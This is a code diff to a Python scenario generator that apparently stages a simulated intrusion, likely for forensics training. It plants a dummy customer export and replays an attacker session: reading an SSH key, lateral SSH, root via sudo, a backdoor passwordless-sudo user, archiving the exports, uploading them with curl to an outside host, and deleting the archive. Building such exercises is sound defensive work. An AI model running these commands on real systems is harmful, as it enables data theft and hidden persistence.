@@ -61,6 +61,7 @@ class Story:
             path.write_text("deploy ALL=(ALL:ALL) NOPASSWD: ALL\n")
             path.chmod(0o440)
         shutil.copytree(self.stage.work / "keys", self.ci.root / "keys")
+        (self.db.root / "srv/exports/customers-2026-02.csv.gz").write_bytes(self.random.randbytes(24_000_000))
         (self.ci.root / "tmp/build.tar.gz").write_bytes(self.random.randbytes(50_000))
         self.jobs()
         for host in (self.bastion, self.db, self.web):
@@ -212,7 +213,7 @@ class Story:
         for text, line in (("10:08:40", "id"), ("10:09:02", "ls -la ~/.ssh"), ("10:09:20", "cat ~/.ssh/id_db"), ("10:11:40", "ssh -i ~/.ssh/id_db -o BatchMode=yes web-1"),
                            ("10:15:02", "ssh -i ~/.ssh/id_db db-1"), ("10:15:40", "id; sudo -l"), ("10:16:30", "sudo bash"),
                            ("10:19:12", "useradd -m -u 1012 -s /bin/bash support2"), ("10:20:05", "echo 'support2 ALL=(ALL) NOPASSWD: ALL' | tee /etc/sudoers.d/support2"),
-                           ("10:22:31", "ls -la /srv/exports"), ("10:24:00", "tar czf /tmp/.x.tgz /srv/exports"),
+                           ("10:22:31", "ls -la /srv/exports"), ("10:24:00", "tar czf /tmp/.x.tgz /srv/exports/customers-2026-02.csv.gz"),
                            ("10:26:44", f"curl -sk -T /tmp/.x.tgz https://{OUTSIDE_2}/u"), ("10:29:50", "rm -f /tmp/.x.tgz"), ("10:31:02", "exit"), ("10:31:10", "exit")):
             self.at(text)
             shell.run(line)
